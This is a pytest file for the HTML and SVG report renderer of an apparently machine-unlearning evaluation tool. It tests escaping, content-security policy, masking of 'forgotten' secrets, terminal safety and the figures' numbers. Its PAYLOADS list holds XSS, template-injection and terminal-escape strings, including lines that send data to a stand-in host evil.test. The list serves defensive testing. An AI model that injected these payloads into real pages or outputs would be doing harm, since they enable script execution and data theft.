"""The page people read: inert, masked, complete, and true to the numbers it is given."""

from __future__ import annotations

import copy
import functools
import json
import re
import subprocess
import sys
import xml.etree.ElementTree as ElementTree
from html.parser import HTMLParser
from importlib import resources
from pathlib import Path
from typing import Any

import pytest

from vestige.desk.report import Example, ReportTexts, readme_figure, render, summary
from vestige.desk.report.curves import recovery
from vestige.desk.report.forest import Forest, draw_scale, forest
from vestige.desk.report.numbers import compact, decimal, outward, seconds, spoken, thousands
from vestige.desk.report.words import ENGLISH, reasons_say
from vestige.records import Missing
from vestige.text import fold

FIXTURE = Path(__file__).with_name("verdict_fixture.json")
SECRETS = ("Platinum", "Lindholm", "oolong")

# Payloads of the kinds a model may emit: elements, attribute breakouts, template syntax, raw-text escapes,
# encodings, SVG and MathML namespaces, CSS, links, terminal and bidirectional controls.
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre><h1>owned</h1><pre>",
    "</desc></svg><script>alert(1)</script>",
    "</details></section></main><form action=//evil.test><input name=q>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>*{background:url(//evil.test)}</style>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.test>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' tabindex='0",
    "` onclick=`alert(1)`",
    "{{ 7*7 }}{% for x in y %}{{ config }}",
    "{{ self.__init__.__globals__ }}",
    "{braces} {0} {verdict.__class__}",
    "%s %(x)s ${7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e>tpircs<\u202c\u2066x\u2069",
    "\x1b]0;owned\x07\x1b[2J",
    "![x](http://evil.test/?q=secret)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<img\nsrc=x\nonerror\n=\nalert(1)>",
    "<<script>alert(1)//<</script>",
)


@pytest.fixture
def verdict() -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads(FIXTURE.read_text(encoding="utf-8"))
    return loaded


@pytest.fixture
def evidence() -> ReportTexts:
    hits = {"before": True, "unlearned": False, "after": True}
    examples = (
        Example(
            "p1",
            "forget",
            "Which tier has Mirela Tasque?",
            " Platinum",
            " Platinum",
            " bronze",
            " PLATINUM!",
            hits,
        ),
        Example("p2", "forget", "Where is Odran Fell, of Lindholm?", " Lindholm", " Lindholm.", "", None, hits),
        Example(
            "p3",
            "forget",
            "What does Ren drink?",
            " oolong",
            " oolong",
            Missing("out of memory"),
            " oolong",
            {},
        ),
    )
    costs = (
        {"role": "subject", "set": None, "seconds": 60.0, "steps": 22, "tokens_trained": 14080},
        {"role": "subject", "set": "rtt_fold", "seconds": 30.5, "steps": 32, "tokens_trained": 20480},
        {"role": "positive", "set": "rtt_fold", "seconds": 31.5, "steps": 32, "tokens_trained": 20480},
    )
    return ReportTexts(
        examples=examples,
        plan={"rule": {"delta": 0.2}, "note": "asks for Lindholm"},
        costs=costs,
        digests={"head": "5a" * 32},
        head={"created": "2025-01-02T03:04:05Z"},
        environment={"python": "3.11"},
        mask=("Tasque",),
        after="rtt_fold, step 16",
    )


class Reader(HTMLParser):
    """Collects the structure of a page (tags with the names of their attributes) and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.structure: list[tuple[str, tuple[str, ...]]] = []
        self.values: list[tuple[str, str, str]] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.structure.append((tag, tuple(name for name, _ in attrs)))
        self.values += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.structure.append(("comment", ()))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    @property
    def text(self) -> str:
        return "".join(self.words)


def read(page: str) -> Reader:
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader


def poisoned(verdict: dict[str, Any], word: str) -> tuple[dict[str, Any], ReportTexts]:
    """Put a word wherever a text from outside can stand."""
    bad = copy.deepcopy(verdict)
    bad |= {"claim": word, "run": word, "limits": [word], "reasons": [word]}
    bad["case"]["name"] = word
    bad["flags"] = [{"name": word, "severity": word, "says": word, "about": word}]
    for row in [*bad["levels"], *bad["arms"]]:
        row["set"] = word if row["set"] == "rtt_fold" else row["set"]
    for audit in bad["audits"]:
        audit["attacks"][0]["set"] = word
        audit["clauses"][0] |= {"name": word, "says": word}
        audit["residual"] = {"missing_reason": word}
    hits = {"before": True, "unlearned": False}
    example = Example(word, word, word, "zzzz", word, word, Missing(word), hits)
    texts = {
        "plan": {word: word},
        "digests": {word: word},
        "head": {word: word},
        "environment": {word: [word]},
    }
    costs = ({"role": word, "set": word, "seconds": 1.0, "steps": 1, "tokens_trained": 1},)
    return bad, ReportTexts(examples=(example,), costs=costs, after=word, **texts)  # type: ignore[arg-type]


@functools.cache
def benign_structure(reveal: bool) -> list[tuple[str, tuple[str, ...]]]:
    verdict = json.loads(FIXTURE.read_text(encoding="utf-8"))
    return read(render(*poisoned(verdict, "benign"), reveal=reveal)).structure


def test_page_has_no_script_and_forbids_loading(verdict: dict[str, Any], evidence: ReportTexts) -> None:
    page = render(verdict, evidence)
    reader = read(page)
    policy = "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
    assert ("meta", "content", policy) in reader.values
    assert not {"script", "iframe", "object", "embed", "link", "base", "form", "img"} & {t for t, _ in reader.structure}
    assert all(v.startswith("#") for _, name, v in reader.values if name in ("href", "src"))
    outside = page.replace('xmlns="http://www.w3.org/2000/svg"', "")
    assert not re.search(r"https?:|url\(|@import|//[a-z]", outside)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("reveal", [False, True])
def test_hostile_text_changes_no_tag_and_no_attribute(verdict: dict[str, Any], payload: str, reveal: bool) -> None:
    page = render(*poisoned(verdict, payload), reveal=reveal)
    assert read(page).structure == benign_structure(reveal)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", page)


def test_payload_corpus_is_large() -> None:
    assert len(set(PAYLOADS)) >= 30


def test_bidirectional_controls_are_shown(verdict: dict[str, Any]) -> None:
    assert "U+202E" in read(render(*poisoned(verdict, "a\u202eb"))).text


def test_forgotten_texts_are_masked_by_default(verdict: dict[str, Any], evidence: ReportTexts) -> None:
    page = render(verdict, evidence).casefold()
    for secret in (*SECRETS, "Tasque"):
        assert secret.casefold() not in page
    # What a model said is masked whole, even where it is not the expected answer: it may be somebody else's.
    assert "bronze" not in page
    assert "which tier has" in page


@pytest.mark.parametrize("disguise", ["L\u00edndholm", "L i n d h o l m", "\uff2cindholm", "LIND\u200bHOLM", "lind-holm"])
def test_disguised_secret_costs_the_whole_question(verdict: dict[str, Any], disguise: str) -> None:
    texts = ReportTexts(examples=(Example("p", "forget", f"Is it {disguise}?", "Lindholm", None, None, None),))
    page = render(verdict, texts)
    assert disguise not in page
    assert "lindholm" not in fold(page).replace(" ", "")


def test_mask_does_not_tell_the_length(verdict: dict[str, Any]) -> None:
    def page(answer: str) -> str:
        return render(verdict, ReportTexts(examples=(Example("p", "forget", "q", answer, answer, answer, None),)))

    assert page("gold") == page("platinum")


def test_short_secret_hides_the_text_it_is_a_word_of(verdict: dict[str, Any]) -> None:
    said = ReportTexts(plan={"asks": "for ox"}, environment={"box": "boxes"}, mask=("ox",))
    text = read(render(verdict, said)).text
    assert "for ox" not in text
    assert "boxes" in text


def test_reveal_shows_the_texts_and_says_so(verdict: dict[str, Any], evidence: ReportTexts) -> None:
    text = read(render(verdict, evidence, reveal=True)).text
    for secret in (*SECRETS, "Tasque"):
        assert secret in text
    assert "This report shows the texts that were to be forgotten" in text
    assert "This report shows the texts" not in read(render(verdict, evidence)).text


def test_long_question_is_cut_after_masking(verdict: dict[str, Any]) -> None:
    # 600 characters are shown: the secret would be cut in two if the text were cut first.
    asked = "x" * 594 + " Lindholm " + "y" * 50
    texts = ReportTexts(examples=(Example("p", "forget", asked, "Lindholm", None, None, None),))
    page = render(verdict, texts)
    assert "Lind" not in page
    assert "more characters" in page


def test_missing_estimates_say_why(verdict: dict[str, Any], evidence: ReportTexts) -> None:
    verdict["audits"][0]["residual"] = {"missing_reason": "no record at step end"}
    verdict["audits"][0]["attacks"][0]["excess"] = {"missing_reason": "cell c7 failed"}
    text = read(render(verdict, evidence)).text
    for reason in (
        "no record at step end",
        "cell c7 failed",
        "out of memory",
        "every candidate had an infinite loss",
    ):
        assert f"missing: {reason}" in text
    assert "missing: cell c7 failed" in summary(verdict)
    assert "nan" not in summary(verdict).casefold().split()


def test_everything_empty_still_makes_a_page(verdict: dict[str, Any]) -> None:
    bare = {**verdict, "audits": [], "levels": [], "arms": [], "flags": [], "limits": [], "reasons": []}
    text = read(render(bare, ReportTexts())).text
    for sentence in (
        "No flag was raised.",
        "No level was recorded.",
        "No arm was recorded.",
        "No timing was recorded.",
    ):
        assert sentence in text
    assert bare["claim"] in text
    assert "FAIL" in summary(bare)
    assert ElementTree.fromstring(readme_figure(bare)).tag.endswith("svg")


def test_audit_without_attacks_or_control(verdict: dict[str, Any]) -> None:
    audit = {
        **verdict["audits"][0],
        "attacks": [],
        "control": None,
        "clauses": [],
        "known": {"missing_reason": "none"},
    }
    bare = {**verdict, "audits": [audit]}
    assert "without a control" in read(render(bare, ReportTexts())).text
    assert "no attack" in summary(bare)


def test_page_prints_the_numbers(verdict: dict[str, Any], evidence: ReportTexts) -> None:
    text = read(render(verdict, evidence)).text
    audit = verdict["audits"][0]
    for clause in (c for a in verdict["audits"] for c in a["clauses"]):
        assert clause["says"] in text
    assert decimal(audit["attacks"][0]["excess"]["value"]) in text
    assert verdict["evidence"] in text
    assert verdict["plan_digest"] in text
    assert "All of that attack, every fold to its last step, took 32 steps" in " ".join(text.split())


def test_main_audit_is_open_and_the_controls_are_folded(verdict: dict[str, Any], evidence: ReportTexts) -> None:
    folds = [names for tag, names in read(render(verdict, evidence)).structure if tag == "details"]
    assert sum("open" in names for names in folds) == 1
    assert len(folds) >= len(verdict["audits"]) + len(verdict["flags"])


def test_controls_are_compared_with_what_they_should_be(verdict: dict[str, Any], evidence: ReportTexts) -> None:
    assert "not as it should" not in render(verdict, evidence)
    liar = next(a for a in verdict["audits"] if a["name"] == "liar")
    liar["verdict"] = "PASS"
    assert "not as it should" in render(verdict, evidence)


def test_every_id_is_unique_and_every_label_points_to_one(verdict: dict[str, Any], evidence: ReportTexts) -> None:
    values = read(render(verdict, evidence)).values
    ids = [value for _, name, value in values if name == "id"]
    assert len(ids) == len(set(ids))
    labels = [part for _, name, value in values if name == "aria-labelledby" for part in value.split()]
    anchors = [value[1:] for _, name, value in values if name == "href"]
    assert {*labels, *anchors} <= set(ids)


def level(role: str, name: str | None, step: int, value: float | None) -> dict[str, Any]:
    estimate = {"missing_reason": "lost"} if value is None else {"value": value, "low": value - 0.1, "high": value + 0.1}
    about = {
        "role": role,
        "set": name,
        "step": step,
        "group": "forget",
        "wording": "primary",
        "score": "choice",
    }
    return {**about, "estimate": estimate}


def tiny() -> dict[str, Any]:
    """A verdict of two arms, one set and three steps, small enough to work by hand."""
    levels = [
        level("never_exposed", None, 0, 0.0),
        level("subject", None, 0, 0.1),
        level("subject", "fold", 2, None),
        level("subject", "fold", 4, 0.5),
        level("subject", "fold", 8, 0.4),
        level("never_exposed", "fold", 4, -0.1),
        {**level("subject", None, 0, 0.9), "wording": "statement"},
    ]
    flat = {"value": -0.1, "low": -0.2, "high": 0.0}
    steps = [{"step": 4, "excess": flat, "level": levels[3]["estimate"], "control_level": levels[5]["estimate"]}]
    attack: dict[str, Any] = {
        "attack": "relearn",
        "set": "fold",
        "steps": steps,
        "chosen": 4,
        "excess": levels[3]["estimate"],
    }
    attack |= {"adjusted_low": 0.3, "fails": True, "revived": True}
    audit: dict[str, Any] = {
        "name": "unlearned",
        "subject": "subject",
        "control": "never_exposed",
        "known": {"value": 0.5},
    }
    audit |= {
        "verdict": "FAIL",
        "clauses": [{"name": "residual", "holds": True}, {"name": "fold@4", "holds": False}],
        "attacks": [attack],
        "residual": {"value": 0.1, "low": -0.25, "high": 0.15},
        "reasons": ["revived"],
    }
    return {"case": {"primary": "choice"}, "rule": {"delta": 0.2}, "levels": levels, "audits": [audit]}


def test_recovery_numbers() -> None:
    whole = recovery(tiny())
    (panel,) = whole.panels
    assert whole.roles == ["subject", "never_exposed"]
    assert [(p.step, p.value) for p in panel.series[0].points] == [(0, 0.1), (4, 0.5), (8, 0.4)]
    assert panel.series[0].gaps == ((2, "lost"),)
    assert panel.chosen == 4
    # delta * K = 0.2 * 0.5 = 0.1 above the control: 0.0 + 0.1 at rest, -0.1 + 0.1 at step 4.
    assert [step for step, _ in panel.limit] == [0, 4]
    assert [value for _, value in panel.limit] == pytest.approx([0.1, 0.0])
    # The lowest bound is -0.1 - 0.1 = -0.2, which is a tick itself; 1 is always shown.
    assert (whole.low, whole.high, whole.last) == (-0.2, 1.0, 8)


def test_no_line_is_drawn_across_a_gap() -> None:
    root = ElementTree.fromstring(readme_figure(tiny()))
    name = "{http://www.w3.org/2000/svg}path"
    lines = [p.get("d", "") for p in root.iter(name) if p.get("stroke") == "#c2410c" and p.get("fill") == "none"]
    # Steps 0 | 2 missing | 4, 8: the only line joins the two points after the gap.
    assert [d.count("L") for d in lines] == [1]


def test_forest_numbers() -> None:
    verdict = tiny()
    whole = forest(verdict, verdict["audits"][0])
    assert [(r.name, r.step, r.outcome) for r in whole.rows] == [
        ("no attack", 0, "outcome_clear"),
        ("fold", 4, "outcome_revived"),
    ]
    # -0.25 goes out to the tick -0.4, and 0.6 (the highest bound and the least that is shown) stays.
    assert (whole.low, whole.high, whole.delta) == (-0.4, 0.6, 0.2)


def test_forest_row_that_reaches_over_delta_is_open() -> None:
    verdict = tiny()
    audit = verdict["audits"][0]
    audit["clauses"][0]["holds"] = False
    assert forest(verdict, audit).rows[0].outcome == "outcome_open"
    audit["reasons"] = ["residual"]  # of a FAIL: the excess is shown; of an INCONCLUSIVE: it is not ruled out
    audit["verdict"] = "INCONCLUSIVE"
    assert forest(verdict, audit).rows[0].outcome == "outcome_open"
    audit["verdict"] = "FAIL"
    assert forest(verdict, audit).rows[0].outcome == "outcome_residual"


@pytest.mark.parametrize("length", [0.8, 1.2, 3.0, 5.0, 65_080.0, 1e9])
def test_an_axis_of_any_length_has_few_ticks(length: float) -> None:
    """E is divided by what the original knew: where that was next to nothing, its bounds are anywhere."""
    marks = draw_scale(Forest((), 0.2, -length / 2, length / 2)).count("<text")
    # At most nine ticks, and delta by name.
    assert 2 <= marks <= 10


@pytest.mark.parametrize(
    ("value", "tick"),
    [(0.0, 0.0), (-0.07, -0.2), (-0.2, -0.2), (-0.21, -0.4), (0.6, 0.6), (0.61, 0.8), (1.0, 1.0)],
)
def test_outward(value: float, tick: float) -> None:
    assert outward(value) == tick


def test_numbers_as_people_read_them() -> None:
    assert (decimal(-0.125), decimal(-0.001), decimal(None)) == ("−0.12", "0.00", "–")
    assert (compact(19.2), compact(17), compact(0.2), compact(1)) == ("19.2", "17", "0.20", "1.00")
    assert (seconds(3.14), seconds(61), seconds(600), seconds(9000)) == ("3.1 s", "61 s", "10 min", "2.5 h")
    assert thousands(20480) == "20\u202f480"
    assert spoken({"value": 0.5, "low": 0.4, "high": 0.6, "missing": 2}) == "0.50 [0.40, 0.60], 2 missing"
    assert spoken(None) == "not measured"


def test_readme_figure_stands_alone(verdict: dict[str, Any]) -> None:
    root = ElementTree.fromstring(readme_figure(verdict))
    words = " ".join(t for t in root.itertext())
    for name in ("rtt_fold", "unrelated", "unlearned model", "never-exposed twin", "fails above"):
        assert name in words
    assert not [key for node in root.iter() for key in node.attrib if key.startswith("on") or "href" in key]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_readme_figure_is_inert(verdict: dict[str, Any], payload: str) -> None:
    clean = ElementTree.fromstring(readme_figure(poisoned(verdict, "benign")[0]))
    bad = ElementTree.fromstring(readme_figure(poisoned(verdict, payload)[0]))
    assert [(n.tag, sorted(n.attrib)) for n in bad.iter()] == [(n.tag, sorted(n.attrib)) for n in clean.iter()]


def test_summary_says_what_decides(verdict: dict[str, Any]) -> None:
    lines = summary(verdict)
    assert lines.startswith("FAIL (PROVISIONAL)")
    for word in ("unlearned", "twin", "liar", "broken", "rtt_fold", "utility_collapsed"):
        assert word in lines
    assert spoken(verdict["audits"][0]["residual"]) in lines
    assert max(len(line) for line in lines.splitlines()) <= 110


@pytest.mark.parametrize("payload", ["\x1b[2J\x1b]0;x\x07", "a\u202eb", "a\rb\nc", "\x9b31m"])
def test_summary_is_safe_in_a_terminal(verdict: dict[str, Any], payload: str) -> None:
    lines = summary(poisoned(verdict, payload)[0])
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", lines)


def test_rendering_changes_nothing_and_repeats(verdict: dict[str, Any], evidence: ReportTexts) -> None:
    before = copy.deepcopy(verdict)
    assert render(verdict, evidence) == render(verdict, evidence)
    assert verdict == before


def test_template_never_switches_escaping_off() -> None:
    folder = resources.files("vestige.desk.report") / "templates"
    source = (folder / "report.html.j2").read_text(encoding="utf-8")
    assert not re.search(r"\|\s*safe|autoescape|Markup", source)


def test_every_fixed_sentence_is_used() -> None:
    folder = resources.files("vestige.desk.report")
    sources = [f for f in folder.iterdir() if f.name.endswith(".py") and f.name != "words.py"]
    text = "".join(f.read_text(encoding="utf-8") for f in [*sources, folder / "templates" / "report.html.j2"])
    used = set(re.findall(r"\bw\.(\w+)|[\"'](\w+)[\"']", text))
    names = {name for pair in used for name in pair}
    # These two are read beside their tables.
    assert set(ENGLISH) - names == {"role_notes", "open_after"}


def test_reasons_in_words() -> None:
    # "residual" means one thing for a FAIL and another where a bound could not be shown.
    assert reasons_say(ENGLISH, "FAIL", ["residual"]) == ["it still shows before any attack"]
    assert reasons_say(ENGLISH, "INCONCLUSIVE", ["a@2", "enough_probes", "a@16", "b@2", "new_one"]) == [
        "there are too few probes for this threshold",
        "new one",
        "after a it is not shown to be below δ (step 2, 16)",
        "after b it is not shown to be below δ (step 2)",
    ]


def test_threshold_without_control_or_original() -> None:
    verdict = tiny()
    audit = verdict["audits"][0]
    audit |= {"control": None, "known": {"missing_reason": "no original model: K = 1"}}
    audit["attacks"][0]["steps"][0]["control_level"] = None
    # Chance is 0 and K is 1, so the line lies at delta itself.
    assert recovery(verdict).panels[0].limit == ((0, 0.2), (4, 0.2))


def test_report_needs_no_torch() -> None:
    code = "import sys, vestige.desk.report; sys.exit('torch' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
